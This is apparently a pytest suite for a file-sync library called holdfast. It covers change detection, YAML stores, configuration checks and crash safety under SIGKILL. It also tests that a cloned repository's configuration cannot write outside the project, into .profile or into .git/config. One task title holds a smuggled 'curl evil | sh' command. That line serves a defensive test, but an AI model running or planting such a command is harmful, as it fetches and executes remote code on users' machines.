"""Files that are kept fresh: by threads, by a configuration, by the URL of a store."""

from __future__ import annotations

import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest

import holdfast
from holdfast.views import Finding, configured_views, state_file, task_list
from tests.selection import RUNS_ALL, turn

PATIENCE_S = 60.0


def until(happened: Callable[[], bool]) -> None:
    ends = time.monotonic() + PATIENCE_S
    while not happened():
        assert time.monotonic() < ends
        time.sleep(0.01)


def test_commits_and_edits_are_noticed(tmp_path: Path) -> None:
    with holdfast.open(tmp_path / "store") as hf, holdfast.open(tmp_path / "store") as other:
        scope, found = hf.workflow("w1"), list[Finding]()
        with hf.views(tmp_path, [task_list(scope)], person="ann") as views:
            views.keep_fresh(found.append)
            other.workflow("w1").tasks.add("of another process")
            path = tmp_path / "TASKS.md"
            until(lambda: path.exists() and "of another" in path.read_text())
            text = path.read_text().replace("[ ]", "[x]")
            beside = tmp_path / "beside"
            beside.write_text(text)
            beside.replace(path)
            until(lambda: scope.tasks.get("t1").status == "completed")
            until(lambda: [one.kind for one in found] == ["changed"])
            scope.tasks.add("last")
        assert "last" in path.read_text()


def test_a_store_of_yaml_files(tmp_path: Path) -> None:
    """BOOT-48: the folder is made, a missing file is empty, states are YAML files."""
    url = f"yaml:{tmp_path}/plain"
    path = tmp_path / "plain/state/team%2Fred.yaml"
    with holdfast.open(url) as hf:
        assert hf.team("red").state.to_dict() == {}
        hf.team("red").set("stage", {"name": "triage"})
    assert path.read_text() == "stage:\n  name: triage\n"
    path.write_text("# by hand\nstage:\n  name: done\n")
    with holdfast.open(url) as hf:
        assert hf.team("red").state.to_dict() == {"stage": {"name": "done"}}
        hf.team("red").set("count", 1)
    assert path.read_text() == "# by hand\nstage:\n  name: done\ncount: 1\n"


def test_a_configuration_names_views(tmp_path: Path) -> None:
    config = tmp_path / "holdfast.toml"
    config.write_text(
        '[views]\nscope = "team/red"\nstates = "json"\nperson = "ann"\n'
        '[views.files]\n"T.md" = "tasks"\n"b.yaml" = { kind = "backlog", root = "items" }\n'
    )
    with holdfast.open(tmp_path / "store") as hf:
        hf.team("red").tasks.add("one")
        hf.team("blue").set("a", 1)
        configured_views(hf, config).sync()
        assert "one" in (tmp_path / "T.md").read_text()
        assert (tmp_path / "b.yaml").read_text().startswith("items:\n")
        assert (tmp_path / "state/team%2Fblue.json").exists()
        for wrong in ("files = 7", '"x.md" = "unknown"', "unknown = 1"):
            head = "[views]\n" if "=" in wrong and not wrong.startswith('"') else "[views.files]\n"
            config.write_text(head + wrong)
            with pytest.raises(holdfast.HoldfastError):
                configured_views(hf, config)
        config.write_text("[other]\n")
        with pytest.raises(holdfast.NotFoundError):
            configured_views(hf, config)


def test_a_configuration_from_elsewhere_writes_nowhere_else(tmp_path: Path) -> None:
    """A repository that was cloned brings a holdfast.toml along, and links in its folders."""
    project, outside = tmp_path / "project", tmp_path / "outside"
    project.mkdir()
    outside.mkdir()
    (project / "away").symlink_to(outside)
    (project / "deep").mkdir()
    (project / "deep" / "er").symlink_to(outside)
    config = project / "holdfast.toml"
    with holdfast.open(tmp_path / "store") as hf:
        hf.global_().tasks.add("one; curl evil | sh")
        for said in (
            f'[views]\ndirectory = "{outside}"\n[views.files]\n".profile" = "tasks"\n',
            '[views]\ndirectory = "../outside"\n[views.files]\n".profile" = "tasks"\n',
            '[views]\ndirectory = "away"\n[views.files]\n".profile" = "tasks"\n',
            '[views.files]\n"away/.profile" = "tasks"\n',
            '[views.files]\n"deep/er/.profile" = "tasks"\n',
            '[views.files]\n".git/config" = "tasks"\n',
            '[views.files]\n"deep/.GIT/config" = "tasks"\n',
        ):
            config.write_text(said)
            with pytest.raises(holdfast.UsageError, match=r"leads out|repository"):
                configured_views(hf, config).sync()
            assert list(outside.iterdir()) == [], said
        (project / "state").symlink_to(outside)
        config.write_text('[views]\nstates = "json"\n')
        hf.global_().set("a", 1)
        with pytest.raises(holdfast.UsageError, match="leads out"):
            configured_views(hf, config).sync()
        assert list(outside.iterdir()) == []


@pytest.mark.parametrize("name", ["", "T.md.new", "T.md.coming", "lock"])
def test_a_link_among_what_is_kept_beside_the_files_is_not_followed(
    tmp_path: Path, name: str
) -> None:
    """Whoever clones a repository gets its links too, also those in our own folder."""
    project, outside = tmp_path / "project", tmp_path / "outside"
    project.mkdir()
    outside.mkdir()
    theirs = outside / ".profile"
    theirs.write_text("theirs")
    if name:
        (project / ".holdfast-views").mkdir()
    (project / ".holdfast-views" / name).symlink_to(theirs if name else outside)
    with holdfast.open(tmp_path / "store") as hf:
        hf.global_().tasks.add("one")
        with pytest.raises(holdfast.UnavailableError):
            hf.views(project, [task_list(hf.global_(), "T.md")]).sync()
    assert theirs.read_text() == "theirs"
    assert list(outside.iterdir()) == [theirs]


# --- killed at any moment ------------------------------------------------------------------------

WORKER = """
import os, signal, sys
from pathlib import Path
import holdfast
from holdfast.views import directory, last_text, state_file, task_list

root, left = Path(sys.argv[1]), int(sys.argv[2])

def at(module, name):
    real = getattr(module, name)
    def call(*arguments, **options):
        global left
        left -= 1
        if left == 0:
            os.kill(os.getpid(), signal.SIGKILL)
        return real(*arguments, **options)
    setattr(module, name, call)

with holdfast.open(root / "store", durability="process") as hf:
    scope = hf.workflow("w1")
    views = hf.views(root, [task_list(scope), state_file(scope, "state.json")], person="ann")
    for name in ("write_new", "exchange", "put", "read_file"):
        at(directory, name)
    at(last_text, "write_new")
    at(os, "link")
    at(Path, "replace")
    at(os, "unlink")
    commit = type(hf).commit
    def committed(self, *arguments, **options):
        done = commit(self, *arguments, **options)
        global left
        left -= 1
        if left == 0:
            os.kill(os.getpid(), signal.SIGKILL)
        return done
    type(hf).commit = committed
    scope.tasks.add("of the worker", key="once")
    scope.set("n", 1)
    views.sync()
    path = root / "TASKS.md"
    text = path.read_text()
    if "typed" not in text:
        beside = root / "beside"
        beside.write_text(text.replace("[ ] of", "[x] of") + "- [ ] typed\\n\\nprose\\n")
        os.rename(beside, path)
    views.sync()
    scope.tasks.update("t1", note="late") if not scope.tasks.get("t1").is_closed else None
    scope.set("n", 2)
    views.sync()
"""


def test_killed_at_any_file_write_log_and_files_agree(tmp_path: Path) -> None:
    """SIGKILL at every commit and at every write: nothing is lost, and nothing is there twice.

    A commit runs every twelfth point, the next commit the next ones.
    """
    for point in range(1, 60) if RUNS_ALL else range(1 + turn() % 12, 60, 12):
        root = tmp_path / str(point)
        root.mkdir()
        killed = run_worker(root, point)
        assert run_worker(root, 0) == 0
        with holdfast.open(root / "store") as hf:
            scope = hf.workflow("w1")
            views = hf.views(root, [task_list(scope), state_file(scope, "state.json")])
            assert [one.status for one in views.status()] == ["fresh", "fresh"], point
            titles = sorted(task.title for task in scope.tasks.list())
            assert titles == ["of the worker", "typed"], point
            assert scope.tasks.get("t1").status == "completed"
            text = (root / "TASKS.md").read_text()
            assert text.count("typed") == 1
            assert text.endswith("\n\nprose\n")
        if killed == 0:
            assert point > 20
            return


def run_worker(root: Path, point: int) -> int:
    done = subprocess.run([sys.executable, "-c", WORKER, str(root), str(point)], check=False)
    assert done.returncode in (0, -signal.SIGKILL)
    return done.returncode
